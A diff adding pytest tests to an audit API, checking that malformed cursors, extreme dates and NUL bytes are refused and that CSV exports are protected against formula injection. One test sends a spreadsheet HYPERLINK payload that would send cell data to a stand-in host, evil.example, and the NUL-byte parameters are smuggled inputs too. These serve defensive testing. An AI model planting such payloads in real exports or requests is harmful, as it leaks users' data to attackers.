@@ -4,6 +4,7 @@ import io
 import json
 import threading
 import tracemalloc
+from urllib.parse import parse_qsl
 
 import pytest
 import sqlalchemy as sa
@@ -366,3 +367,36 @@ def test_stats_count_opt_in_rates_per_day_method_and_gpc(audit, engine):
     later = audit("/v1/audit/stats", since="2026-03-02").get_json()["days"]
     assert [d["day"] for d in later] == ["2026-03-02"]
     assert audit("/v1/audit/stats", since="March").status_code == 400
+
+
+@pytest.mark.parametrize(
+    "query",
+    (
+        "cursor=99999999999999999999",
+        "cursor=-1",
+        "until=9999-12-31T23:00:00-05:00",
+        "since=0001-01-01T00:00:00%2B05:00",
+        "site=a%00b",
+    ),
+)
+def test_out_of_range_and_nul_parameters_are_refused(audit, query):
+    response = audit("/v1/audit/events", **dict(parse_qsl(query)))
+    assert response.status_code == 400
+    assert response.get_json()["error"]["code"] == "invalid_parameter"
+
+
+def test_nul_in_a_consent_id_is_refused_and_still_logged(audit, engine):
+    assert audit("/v1/audit/consents/a%00b").status_code == 400
+    with engine.connect() as conn:
+        row = conn.execute(sa.select(audit_access)).one()
+    assert (row.status, row.path) == (400, "/v1/audit/consents/a\\0b")
+
+
+def test_csv_export_cannot_carry_a_formula(audit, consent):
+    consent.post(headers={"User-Agent": '=HYPERLINK("http://evil.example/?"&A1,"x")'})
+    rows = list(
+        csv.DictReader(
+            io.StringIO(audit("/v1/audit/events", format="csv").get_data(as_text=True))
+        )
+    )
+    assert rows[0]["user_agent"].startswith("'=HYPERLINK")
